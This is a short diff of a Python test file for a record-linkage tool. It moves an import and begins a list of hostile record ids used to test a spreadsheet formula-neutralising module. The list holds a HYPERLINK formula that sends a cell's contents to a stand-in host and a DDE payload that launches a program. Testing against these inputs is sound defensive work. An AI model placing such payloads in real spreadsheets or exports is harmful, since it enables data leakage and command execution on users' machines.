@@ -10,9 +10,9 @@ import pandas as pd
 import pytest
 
 from evaluation.metrics import read_truth
-from evaluation.review import TEXT_COLUMNS
 from linkage.cli import main
 from linkage.excel_safe import FORMULA_START, neutralise, restore
+from linkage.report.review import TEXT_COLUMNS
 
 #: Record ids as a hostile or careless source might send them.
 HOSTILE_IDS = ['=HYPERLINK("http://x.example/?a"&A1,"open")', "+cmd|' /C calc'!A0",
